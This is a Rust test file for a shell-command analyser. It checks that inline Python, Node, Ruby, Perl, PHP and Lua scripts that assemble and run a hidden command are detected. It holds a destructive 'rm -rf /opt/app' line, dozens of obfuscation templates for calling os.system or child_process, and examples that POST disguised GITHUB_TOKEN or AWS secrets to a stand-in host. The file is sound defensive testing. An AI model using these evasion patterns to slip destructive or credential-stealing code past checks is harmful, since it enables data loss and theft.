//! Texts that inline code puts together before it runs them: followed where the code determines
//! them, and otherwise never harmless. Makers x languages, with harmless twins.

use crate::effects;
use crate::scripts::reading_with;
use portcullis_shell_reader::types::Coverage;

/// The command that is hidden.
const LINE: &str = "rm -rf /opt/app";
/// Its twin.
const TWIN: &str = "ls -la /opt/xyz";

/// Python expressions whose value is `<s>`; `<r>` is it reversed, `<n>` its numbers, `<a>` and `<b>`
/// its first word and the rest.
const PYTHON: &[&str] = &[
    "'<s>'",
    "'<a>' + ' ' + '<b>'",
    "'<r>'[::-1]",
    "''.join(reversed('<r>'))",
    "' '.join(['<a>', '<b>'])",
    "''.join(['<a>', ' ', '<b>'])",
    "'XX <b>'.replace('XX', '<a>')",
    "'<a>XX<b>'.replace('XX', ' ', 1)",
    "'yy<s>yy'[2:-2]",
    "'a;<s>;b'.split(';')[1]",
    "'a;<s>'.split(';', 1)[1]",
    "'a;b;<s>'.rsplit(';', 1)[1]",
    "'a;<s>'.partition(';')[2]",
    "chr(<n0>) + '<s>'[1:]",
    "''.join(chr(n) for n in [<n>])",
    "''.join(map(chr, [<n>]))",
    "''.join([chr(n - 1) for n in [<n+1>]])",
    "''.join(chr(ord(c)) for c in '<s>')",
    "bytes([<n>]).decode()",
    "'{} {}'.format('<a>', '<b>')",
    "'{x} {y}'.format(x='<a>', y='<b>')",
    "f\"{'<a>'} {'<b>'}\"",
    "'%s %s' % ('<a>', '<b>')",
    "'%(x)s <b>' % {'x': '<a>'}",
    "'  <s>  '.strip()",
    "'xx<s>'.removeprefix('xx')",
    "'<s>'.encode().decode()",
    "'<s>'.swapcase().swapcase()",
    "chr(int('<h0>', 16)) + '<s>'[1:]",
    "' '.join(w) if (w := ['<a>', '<b>']) else ''",
    "bytes.fromhex('<h>').decode()",
];

/// Python statements that leave the text in `s`, by changing lists and maps.
const PYTHON_STEPS: &[&str] = &[
    "w = ['<a>']; w.append('<b>'); s = ' '.join(w)",
    "w = ['<b>']; w.insert(0, '<a>'); s = ' '.join(w)",
    "w = ['<b>', '<a>']; w.reverse(); s = ' '.join(w)",
    "w = ['<a>', '<b>', 'x']; w.pop(); s = ' '.join(w)",
    "w = ['x', '<a>', '<b>']; w.pop(0); s = ' '.join(w)",
    "w = ['<a>', 'x', '<b>']; w.remove('x'); s = ' '.join(w)",
    "w = ['echo']; w.clear(); w.extend(['<a>', '<b>']); s = ' '.join(w)",
    "w = ['<a>']; w += ['<b>']; s = ' '.join(w)",
    "a, b = '<s>'.split(' ', 1); s = a + ' ' + b",
    "a, *b = '<s>'.split(' '); s = ' '.join([a] + b)",
    "d = {'x': 'echo'}; d.update({'x': '<s>'}); s = d['x']",
    "d = {'x': 'echo'}; d.update(x='<s>'); s = d['x']",
    "d = {}; d['x'] = '<s>'; s = d['x']",
    "k = 'X' + 'Y'; d = {'XY': '<s>'}; s = d[k]",
];
/// The same where the order or the place is not followed: a gap.
const PYTHON_LOOSE: &[&str] = &[
    "w = ['<b>', '<a>']; w.sort(key=len); s = ' '.join(w)",
    "w = ['echo', 'x']; w[:] = ['<a>', '<b>']; s = ' '.join(w)",
    "w = ['echo', '<a>', '<b>']; del w[0]; s = ' '.join(w)",
    "w = ['echo', 'x']; w[-2] = '<a>'; w[-1] = '<b>'; s = ' '.join(w)",
    "s = '<t>'.translate(str.maketrans('qz', 'rm'))",
    "import re; s = re.sub('q+', '<a>', 'qq <b>')",
    "import string; s = string.Template('$x <b>').substitute(x='<a>')",
    "s = '%c%c' % (114, 109) + ' -rf /opt/app'",
    "s = input()",
    "s = ''\nfor c in ['<a>', ' ', '<b>']: s += c",
    "import os; s = os.environ['X' + 'Y']",
    "s = '<s>'.split(x)[0]",
    "s = 'a <b>'.strip(x)",
    "import json; s = json.loads('\"<s>\"')",
];

/// Ways to run the text `<e>` in Python, or the text in `s`.
const PYTHON_RUNS: &[&str] = &[
    "import os; os.system(<e>)",
    "import os; getattr(os, 'sys' + 'tem')(<e>)",
    "import os; getattr(os, 'metsys'[::-1])(<e>)",
    "import os; os.__dict__['sys' + 'tem'](<e>)",
    "import os; vars(os)['system'](<e>)",
    "import os; globals()['o' + 's'].system(<e>)",
    "import sys, os; sys.modules['o' + 's'].system(<e>)",
    "__import__('o' + 's').system(<e>)",
    "__builtins__.__dict__['__import__']('os').system(<e>)",
    "__builtins__.__import__('os').system(<e>)",
    "import importlib as i; i.import_module('subprocess').run(<e>, shell=True)",
    "import os; [os.system][0](<e>)",
    "import os; {'f': os.system}['f'](<e>)",
    "import os; list(map(os.system, [<e>]))",
    "import os, functools; functools.partial(os.system, <e>)()",
];

/// The same for JavaScript.
const NODE: &[&str] = &[
    "'<s>'",
    "'<r>'.split('').reverse().join('')",
    "['<a>', '<b>'].join(' ')",
    "'XX <b>'.replace('XX', '<a>')",
    "'<a>XX<b>'.replaceAll('XX', ' ')",
    "'yy<s>yy'.slice(2, -2)",
    "'yy<s>yy'.substring(2, 17)",
    "'yy<s>yy'.substring(17, 2)",
    "'yy<s>yy'.substr(2, 15)",
    "'a;<s>'.split(';')[1]",
    "'<a> '.concat('<b>')",
    "String.fromCharCode(<n>)",
    "String.fromCharCode(...[<n>])",
    "[<n>].map(n => String.fromCharCode(n)).join('')",
    "[<n+1>].map(n => String.fromCharCode(n - 1)).join('')",
    "Buffer.from([<n>]).toString()",
    "Buffer.from('<h>', 'hex').toString()",
    "`${'<a>'} <b>`",
    "'  <s>'.trim()",
    "decodeURIComponent('<s>'.replaceAll(' ', '%20'))",
    "['x', '<s>'].at(-1)",
    "'x'.charAt(1) + '<s>'",
];
const NODE_STEPS: &[&str] = &[
    "const w = ['<b>', '<a>']; w.reverse(); const s = w.join(' ')",
    "const w = ['<a>']; w.push('<b>'); const s = w.join(' ')",
    "const w = []; w.push('<a>', '<b>'); const s = w.join(' ')",
    "const w = ['<b>']; w.unshift('<a>'); const s = w.join(' ')",
    "const w = ['x', '<a>', '<b>']; w.shift(); const s = w.join(' ')",
    "const w = ['x', 'y', '<b>']; w.splice(0, 2, '<a>'); const s = w.join(' ')",
    "const o = {x: 'ls'}; Object.assign(o, {x: '<s>'}); const s = o.x",
    "const k = ['x', 'y'].join(''); const s = {xy: '<s>'}[k]",
    "const o = {w: ['<a>']}; o.w.push('<b>'); const s = o.w.join(' ')",
];
const NODE_LOOSE: &[&str] = &[
    "const s = 'qq <b>'.replace(/q+/g, '<a>')",
    "const s = '<s>'.replace('x', '$&')",
    "const w = ['<b>', '<a>']; w.sort(); const s = w.join(' ')",
    "const s = process.env['X' + 'Y']",
    "const s = process.argv[1]",
    "const s = 'a,<s>'.split(/,/)[1]",
    "const s = JSON.parse('\"<s>\"')",
];
const NODE_RUNS: &[&str] = &[
    "require('child_process').execSync(<e>)",
    "require('child_' + 'process').execSync(<e>)",
    "require(['child', 'process'].join('_'))['exec' + 'Sync'](<e>)",
    "const k = 'cnySxce'.length ? 'execSync' : ''; require('child_process')[k](<e>)",
    "globalThis['require']('child_process').execSync(<e>)",
    "process.mainModule.require('child_process').execSync(<e>)",
    "Reflect.get(require('child_process'), 'execSync')(<e>)",
    "Reflect.apply(require('child_process').execSync, null, [<e>])",
    "require('child_process').execSync.call(null, <e>)",
];

/// Whole programs of the other languages.
const OTHERS: &[&str] = &[
    "ruby -e 'system(\"XX <b>\".sub(\"XX\", \"<a>\"))'",
    "ruby -e 'system(\"<a>,<b>\".gsub(\",\", \" \"))'",
    "ruby -e 'system(\"a,<s>\".split(\",\").reverse.join(\";\"))'",
    "ruby -e 'system([\"<a>\", \"<b>\"].join(\" \"))'",
    "ruby -e 'send(\"sys\" + \"tem\", \"<s>\")'",
    "ruby -e 'Kernel.send(:system, \"<s>\")'",
    "ruby -e '__send__(:system, \"<s>\")'",
    "perl -e 'system(join(\" \", \"<a>\", \"<b>\"))'",
    "perl -e 'system(substr(\"yy<s>\", 2))'",
    "perl -e 'system(\"<a>\" . \" \" . \"<b>\")'",
    "php -r 'system(str_replace(\"XX\", \"<a>\", \"XX <b>\"));'",
    "php -r 'system(implode(\" \", [\"<a>\", \"<b>\"]));'",
    "php -r 'system(substr(\"yy<s>\", 2));'",
    "php -r 'call_user_func(\"system\", \"<s>\");'",
    "php -r 'call_user_func_array(\"sys\" . \"tem\", [\"<s>\"]);'",
    "lua -e 'os.execute(table.concat({\"<a>\", \"<b>\"}, \" \"))'",
    "lua -e 'os.execute(\"<a>\" .. \" \" .. \"<b>\")'",
];
const OTHERS_LOOSE: &[&str] = &[
    "ruby -e 'system(\"qq <b>\".gsub(/q+/, \"<a>\"))'",
    "ruby -e 'send(ARGV[0], \"<s>\")'",
    "ruby -e 'method(:system).call(\"<s>\")'",
    "ruby -e 'Object.const_get(\"Kernel\").system(\"<s>\")'",
    "perl -e 'my $f = \"system\"; &$f(\"<s>\")'",
    "perl -e 'system(\"qq <b>\" =~ s/q+/<a>/r)'",
    "php -r '$f = \"sys\" . \"tem\"; $f(\"<s>\");'",
    "php -r 'array_map($argv[1], [\"<s>\"]);'",
    "lua -e '_G[\"os\"][\"execute\"](\"<s>\")'",
    "lua -e 'os.execute((\"qq <b>\"):gsub(\"q+\", \"<a>\"))'",
];

fn fill(template: &str, line: &str) -> String {
    let numbers = |by: u32| {
        let all: Vec<String> = line.chars().map(|c| (u32::from(c) + by).to_string()).collect();
        all.join(",")
    };
    let hex: String = line.bytes().map(|byte| format!("{byte:02x}")).collect();
    let (first, rest) = line.split_once(' ').unwrap_or((line, ""));
    template
        .replace("<s>", line)
        .replace("<r>", &line.chars().rev().collect::<String>())
        .replace("<n>", &numbers(0))
        .replace("<n+1>", &numbers(1))
        .replace("<n0>", &line.bytes().next().unwrap_or(0).to_string())
        .replace("<h0>", &hex[..2])
        .replace("<h>", &hex)
        .replace("<a>", first)
        .replace("<b>", rest)
        .replace("<t>", &line.replace('r', "q").replace('m', "z"))
}

fn heredoc(program: &str, code: &str) -> String {
    format!("{program} <<'END'\n{code}\nEND\n")
}

fn check(command: &str, followed: bool, wrong: &mut Vec<String>) {
    let reading = reading_with(&fill(command, LINE), &[]);
    let seen = effects(&reading).contains(&"delete! /opt/app".to_owned());
    let unseen = effects(&reading).iter().any(|effect| effect.starts_with("unseen"));
    let partial = reading.coverage == Coverage::Partial || unseen;
    if !seen && (followed || !partial) {
        wrong.push(format!(
            "`{}`: {:?} {:?}",
            fill(command, LINE),
            effects(&reading),
            reading.gaps
        ));
    }
    if followed {
        let reading = reading_with(&fill(command, TWIN), &[]);
        let grave = |effect: &String| ["delete", "unseen"].iter().any(|k| effect.starts_with(k));
        // Texts that are hidden, and calls by name, are objected to whatever they say.
        let hidden = [
            "decodeURI",
            "send(",
            "__send__",
            "call_user_func",
            "[::-1]",
            "reverse",
            "chr",
            "fromChar",
            "hex",
            "Buffer",
            "reversed",
            "bytes",
        ];
        let plain = !hidden.iter().any(|sign| command.contains(sign));
        if plain && (effects(&reading).iter().any(grave) || reading.coverage != Coverage::Full) {
            wrong.push(format!(
                "`{}`, harmless: {:?} {:?}",
                fill(command, TWIN),
                effects(&reading),
                reading.gaps
            ));
        }
    }
}

#[test]
fn a_text_that_is_put_together_is_followed() {
    let mut wrong = Vec::new();
    for (program, makers, steps, loose, runs) in [
        ("python3", PYTHON, PYTHON_STEPS, PYTHON_LOOSE, PYTHON_RUNS),
        ("node", NODE, NODE_STEPS, NODE_LOOSE, NODE_RUNS),
    ] {
        for run in runs {
            for maker in makers {
                check(&heredoc(program, &run.replace("<e>", maker)), true, &mut wrong);
            }
            let joint = if program == "node" { ";\n" } else { "\n" };
            for (steps, followed) in [(steps, true), (loose, false)] {
                for step in steps {
                    let code = format!("{step}{joint}{}", run.replace("<e>", "s"));
                    check(&heredoc(program, &code), followed, &mut wrong);
                }
            }
        }
    }
    for program in OTHERS {
        check(program, true, &mut wrong);
    }
    for program in OTHERS_LOOSE {
        check(program, false, &mut wrong);
    }
    assert!(wrong.is_empty(), "{}:\n{}", wrong.len(), wrong.join("\n"));
}

/// A credential of the environment that is sent counts by every spelling of its name; a name that is
/// not known may be one.
#[test]
fn a_credential_that_is_sent_counts_by_every_spelling() {
    let mut wrong = Vec::new();
    let python = |key: &str| {
        heredoc(
            "python3",
            &format!("import os, sys, requests\nrequests.post('https://e.example', data={key})"),
        )
    };
    let node = |key: &str| {
        heredoc("node", &format!("fetch('https://e.example', {{method: 'POST', body: {key}}})"))
    };
    let mut lines: Vec<(String, bool)> = Vec::new();
    for (key, telling) in [
        ("os.environ['GITHUB_TOKEN']", true),
        ("os.environ['GITHUB' + '_TOKEN']", true),
        ("os.environ['NEKOT_BUHTIG'[::-1]]", true),
        ("os.environ['_'.join(['GITHUB', 'TOKEN'])]", true),
        ("os.environ[sys.argv[1]]", true),
        ("os.environ.get('AWS_SECRET_ACCESS_KEY')", true),
        ("os.getenv('DB_PASSWORD', '')", true),
        ("{'t': os.environ['GITHUB_TOKEN']}", true),
        ("os.environ['LANG']", false),
        ("os.environ['BUILD' + '_ID']", false),
        ("os.getenv('USER')", false),
    ] {
        lines.push((python(key), telling));
    }
    for (key, telling) in [
        ("process.env.GITHUB_TOKEN", true),
        ("process.env['GITHUB' + '_TOKEN']", true),
        ("process.env[['GITHUB', 'TOKEN'].join('_')]", true),
        ("process.env[atob('R0lUSFVCX1RPS0VO')]", true),
        ("process.env[process.argv[1]]", true),
        ("JSON.stringify({t: process.env.NPM_TOKEN})", true),
        ("process.env.LANG", false),
        ("process.env['NODE' + '_ENV']", false),
    ] {
        lines.push((node(key), telling));
    }
    for (line, telling) in lines {
        let found = effects(&reading_with(&line, &[]));
        if found.contains(&"secret? environment".to_owned()) != telling {
            wrong.push(format!("`{line}`: {found:?}"));
        }
    }
    // Headers carry the credentials that belong there.
    let line = heredoc(
        "python3",
        "import os, requests\nrequests.post('https://e.example', json={'a': 1}, headers={'Authorization': os.environ['API_TOKEN']})",
    );
    let found = effects(&reading_with(&line, &[]));
    assert!(!found.contains(&"secret? environment".to_owned()), "{found:?}");
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}
